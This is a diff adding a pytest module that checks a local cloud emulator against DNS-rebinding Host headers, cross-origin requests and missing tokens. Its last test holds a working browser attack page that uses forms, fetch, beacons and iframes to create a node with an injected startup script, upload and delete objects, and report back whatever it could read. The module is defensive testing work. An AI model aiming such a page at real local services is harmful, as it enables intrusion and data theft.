@@ -1,0 +1,247 @@
+"""The emulator answers the programs it is meant for, and no web page: neither its requests nor those of a browser."""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+import subprocess
+import tempfile
+import threading
+from collections.abc import Iterator
+from http.client import HTTPConnection
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from urllib.parse import urlsplit
+
+import pytest
+import requests
+from rig import Rig
+
+from cloud_emulator import Emulator
+
+PLACE = "v2/projects/tpulm-emulator/locations/us-central1-a/nodes"
+BUCKET = "storage/v1/b/runs"
+
+
+@pytest.fixture(scope="module")
+def emulator() -> Iterator[Emulator]:
+    with Emulator() as running:
+        running.create_bucket("runs")
+        yield running
+
+
+def status_of(address: str, path: str, headers: dict[str, str], method: str = "GET") -> int:
+    """Of a request with these headers and no others."""
+    connection = HTTPConnection(address, timeout=30)
+    connection.putrequest(method, path, skip_host=True, skip_accept_encoding=True)
+    for name, value in headers.items():
+        connection.putheader(name, value)
+    connection.endheaders()
+    status = connection.getresponse().status
+    connection.close()
+    return status
+
+
+@pytest.mark.parametrize(
+    ("host", "expected"),
+    [
+        ("127.0.0.1:PORT", 200),
+        ("LocalHost", 200),
+        ("[::1]:PORT", 200),
+        ("localhost:80", 200),  # a forwarded port
+        ("127.0.0.1.evil.example:PORT", 421),
+        ("evil.example:127.0.0.1", 421),
+        ("127.0.0.1@evil.example", 421),
+        ("127.0.0.2:PORT", 421),
+        ("", 421),
+    ],
+)
+def test_a_host_is_a_loopback_name(emulator: Emulator, host: str, expected: int):
+    url = urlsplit(emulator.url)
+    headers = {"Host": host.replace("PORT", str(url.port))}
+    assert status_of(url.netloc, f"{url.path}/{BUCKET}", headers) == expected
+
+
+@pytest.mark.parametrize("origin", ["http://evil.example", "null", "http://127.0.0.1:PORT", ""])
+def test_nobody_has_an_origin(emulator: Emulator, origin: str):
+    url = urlsplit(emulator.url)
+    headers = {"Host": url.netloc, "Origin": origin.replace("PORT", str(url.port))}
+    assert status_of(url.netloc, f"{url.path}/{BUCKET}", headers) == 403
+    preflight = {**headers, "Access-Control-Request-Method": "DELETE"}
+    assert status_of(url.netloc, f"{url.path}/{BUCKET}", preflight, "OPTIONS") == 403
+
+
+@pytest.mark.parametrize(
+    ("method", "path"),
+    [
+        ("GET", ""),
+        ("GET", "_control/status"),
+        ("POST", f"{PLACE}?nodeId=evil"),
+        ("POST", "upload/storage/v1/b/runs/o?uploadType=media&name=evil"),
+        ("DELETE", BUCKET),
+        ("POST", "batch/storage/v1"),
+        ("GET", "runs/object"),
+        ("POST", "_iam/v1/projects/tpulm-emulator/serviceAccounts"),
+        ("GET", "no/such/path"),
+    ],
+)
+def test_nothing_is_answered_without_the_token(emulator: Emulator, method: str, path: str):
+    url = urlsplit(emulator.url)
+    token = url.path.strip("/")
+    answered = emulator.requests
+    others = ("", f"/{token[:-1]}", f"/{token}0", f"/{token[::-1]}", f"/%{ord(token[0]):x}{token[1:]}", f"//{token}")
+    for prefix in others:
+        assert status_of(url.netloc, f"{prefix}/{path}", {"Host": url.netloc, "Content-Length": "0"}, method) == 403, prefix
+    assert emulator.requests == answered
+
+
+def test_every_emulator_has_another_token():
+    assert len({Emulator().url for _ in range(5)}) == 5
+
+
+def test_a_refusal_says_what_to_do(emulator: Emulator):
+    answer = requests.post(f"http://{urlsplit(emulator.url).netloc}/_control/faults", json={}, timeout=30)
+    assert "the addresses that the emulator printed" in answer.json()["error"]["message"]
+
+
+def test_metadata_servers_know_their_names(rig: Rig):
+    address = f"{rig.create().network_endpoints[0].ip_address}:8479"
+    path, flavor = "/computeMetadata/v1/instance/attributes/", {"Metadata-Flavor": "Google"}
+    for host in (address, address.partition(":")[0], "metadata.google.internal"):
+        assert status_of(address, path, {"Host": host, **flavor}) == 200
+        assert status_of(address, path, {"Host": host, "Origin": "http://evil.example", **flavor}) == 403
+    for host in ("evil.example", "evil.example:8479", "localhost", "metadata.google.internal.evil.example", ""):
+        assert status_of(address, path, {"Host": host, **flavor}) == 421
+
+
+# A page that does what it can at BASES, addresses of the emulator, one of them by a name that somebody made to lead here. What
+# could be read is reported, and the page of the next site follows.
+PAGE = """<!doctype html><body><script>
+const next = {"localhost": "127.0.0.1", "127.0.0.1": "evil.example"}[location.hostname];
+const body = JSON.stringify({acceleratorType: "v3-8", runtimeVersion: "tpu-ubuntu2204-base",
+                             metadata: {"startup-script": "#!/bin/bash\\ntouch MARK"}});
+const read = [];
+async function attempt(url, options) {
+  try {
+    const answer = await fetch(url, {signal: AbortSignal.timeout(5000), ...options});
+    const text = await answer.text();
+    if (answer.ok) read.push(url + " " + text);
+  } catch {}
+}
+function add(kind, fields) {
+  const made = Object.assign(document.createElement(kind), fields);
+  document.body.append(made);
+  return made;
+}
+async function attack(base, number) {
+  const node = kind => `${base}/PLACE?nodeId=${kind}-${location.hostname.replaceAll(".", "-")}-${number}`;
+  const upload = base + "/upload/BUCKET/o?uploadType=media&name=evil", kept = base + "/BUCKET/o/kept";
+  for (const [to, name, value] of [[node("f"), body.slice(0, -1) + ', "description": "', '"}'], [upload, "x", "y"],
+                                   [base + "/_control/faults", '{"read_only": true, "match": "', '"}']]) {
+    add("iframe", {name: to});
+    const form = add("form", {method: "POST", action: to, enctype: "text/plain", target: to});
+    form.append(Object.assign(document.createElement("input"), {name, value}));
+    form.submit();
+  }
+  for (const mode of ["no-cors", "cors"]) {
+    for (const type of ["text/plain", "application/json"]) {
+      const options = {method: "POST", mode, headers: {"Content-Type": type}};
+      await attempt(node(mode + type.length), {...options, body});
+      await attempt(base + "/_control/faults", {...options, body: '{"read_only": true}'});
+      await attempt(upload, {...options, body: "x"});
+    }
+    await attempt(kept, {method: "DELETE", mode});
+    for (const path of ["/BUCKET/o/kept?alt=media", "/runs/kept", "/_control/status", "/_control/tpu/status"])
+      await attempt(base + path, {mode});
+  }
+  navigator.sendBeacon(node("b"), body);
+  for (const kind of ["img", "script", "iframe"])
+    await new Promise(done => {
+      add(kind, {onload: done, onerror: done, src: base + "/_control/status"});
+      setTimeout(done, 2000);
+    });
+  for (const made of [...document.querySelectorAll("iframe")])
+    try {
+      const text = made.contentDocument.body.innerText;
+      if (text && !text.startsWith('{"error"')) read.push(text);
+    } catch {}
+}
+(async () => {
+  await Promise.all(BASES.map(attack));
+  await fetch("/report", {method: "POST", body: JSON.stringify({host: location.hostname, read})});
+  if (next) location = location.href.replace(location.hostname, next);
+})();
+</script>"""
+
+CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
+FLAGS = (
+    *("--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking"),
+    *("--disable-component-update", "--disable-sync", "--no-proxy-server"),
+    "--host-resolver-rules=MAP evil.example 127.0.0.1",
+)
+
+
+class Site(ThreadingHTTPServer):
+    """A site of many names, with one page."""
+
+    def __init__(self, page: str):
+        super().__init__(("127.0.0.1", 0), Visit)
+        self.page = page.encode()
+        self.reports: dict[str, list[str]] = {}
+        self.changed = threading.Condition()
+
+
+class Visit(BaseHTTPRequestHandler):
+    server: Site  # pyright: ignore[reportIncompatibleVariableOverride]
+
+    def do_GET(self) -> None:
+        self.send_response(200)
+        self.send_header("Content-Type", "text/html")
+        self.end_headers()
+        self.wfile.write(self.server.page)
+
+    def do_POST(self) -> None:
+        report = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
+        self.do_GET()
+        with self.server.changed:
+            self.server.reports[report["host"]] = report["read"]
+            self.server.changed.notify()
+
+    def log_message(self, format: str, *args: object) -> None:
+        pass
+
+
+@pytest.mark.skipif(CHROMIUM is None, reason="no browser: install chromium (or google-chrome)")
+def test_pages_of_other_sites_do_and_read_nothing(rig: Rig, tmp_path: Path):
+    """Neither without the token nor, should they have learnt it, with it."""
+    assert CHROMIUM is not None
+    rig.emulator.create_bucket("runs")
+    put = {"uploadType": "media", "name": "kept"}
+    requests.post(f"{rig.emulator.url}/upload/{BUCKET}/o", params=put, data=b"only for me", timeout=30).raise_for_status()
+    url, mark = urlsplit(rig.emulator.url), tmp_path / "a-script-ran"
+    names = ("127.0.0.1", "localhost", "evil.example")
+    bases = [f"http://{name}:{url.port}{path}" for name in names for path in ("", url.path)]
+    page = PAGE.replace("BASES", json.dumps(bases)).replace("PLACE", PLACE).replace("BUCKET", BUCKET).replace("MARK", str(mark))
+    site = Site(page)
+    threading.Thread(target=site.serve_forever, args=(0.05,), daemon=True).start()
+    # A short path: Chromium's sockets lie there, whose names end at 107 bytes.
+    with tempfile.TemporaryDirectory(prefix="tpulm-", dir="/tmp", ignore_cleanup_errors=True) as home, site:
+        command = [CHROMIUM, *FLAGS, f"--user-data-dir={home}/profile", f"http://localhost:{site.server_port}/page"]
+        environment = {**os.environ, "HOME": home, "TMPDIR": home}
+        browser = subprocess.Popen(command, env=environment, stdin=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+        try:
+            with site.changed:
+                assert site.changed.wait_for(lambda: len(site.reports) == 3, timeout=120), site.reports
+        finally:
+            browser.kill()
+            browser.wait()
+            site.shutdown()
+    assert not any(site.reports.values()), site.reports
+    assert not rig.tpu.nodes() and not mark.exists()
+    status = requests.get(f"{rig.emulator.url}/_control/status", timeout=30).json()
+    assert not status["faults"]["read_only"]
+    listed = requests.get(f"{rig.emulator.url}/{BUCKET}/o", timeout=30).json()["items"]
+    assert [item["name"] for item in listed] == ["kept"]
+    assert requests.get(f"{rig.emulator.url}/runs/kept", timeout=30).content == b"only for me"
+    rig.create()  # no stock-out either
